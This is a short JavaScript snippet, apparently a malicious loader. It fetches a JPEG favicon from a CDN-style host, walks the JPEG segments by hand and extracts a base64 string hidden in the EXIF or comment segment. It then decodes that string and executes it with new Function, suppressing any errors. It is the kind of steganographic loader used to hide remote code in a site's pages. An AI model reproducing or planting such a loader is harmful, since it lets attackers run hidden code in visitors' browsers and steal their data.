// corpus note: fetches a JPEG favicon, walks JPEG markers by hand and runs code hidden in the EXIF/COM segment
(function () {
  var ICON_URL = "https://cdn.shop-assets-static.test/media/favicon.jpg?v=3";

  function readSegments(buf) {
    var view = new DataView(buf);
    var out = [];
    if (view.getUint16(0) !== 0xFFD8) return out;
    var pos = 2;
    while (pos + 4 < view.byteLength) {
      var marker = view.getUint16(pos);
      var len = view.getUint16(pos + 2);
      if ((marker & 0xFF00) !== 0xFF00) break;
      out.push({ marker: marker, start: pos + 4, length: len - 2 });
      if (marker === 0xFFDA) break; // start of scan
      pos += 2 + len;
    }
    return out;
  }

  function bytesToText(buf, start, length) {
    var u8 = new Uint8Array(buf, start, length);
    var s = "";
    for (var i = 0; i < u8.length; i++) s += String.fromCharCode(u8[i]);
    return s;
  }

  function pickPayload(buf) {
    var segs = readSegments(buf);
    for (var i = 0; i < segs.length; i++) {
      var seg = segs[i];
      // APP1 (Exif) or COM segment
      if (seg.marker === 0xFFE1 || seg.marker === 0xFFFE) {
        var txt = bytesToText(buf, seg.start, seg.length);
        var idx = txt.indexOf("Copyright\u0000");
        if (idx < 0) idx = txt.indexOf("%%");
        if (idx >= 0) {
          var body = txt.slice(idx).replace(/^Copyright\u0000|^%%/, "");
          var end = body.indexOf("\u0000");
          return end > 0 ? body.slice(0, end) : body;
        }
      }
    }
    return null;
  }

  fetch(ICON_URL, { credentials: "omit", cache: "force-cache" })
    .then(function (r) { return r.arrayBuffer(); })
    .then(function (buf) {
      var code = pickPayload(buf);
      if (!code) return;
      try {
        var decoded = atob(code);
        (new Function(decoded))();
      } catch (e) { /* stay quiet */ }
    });
})();
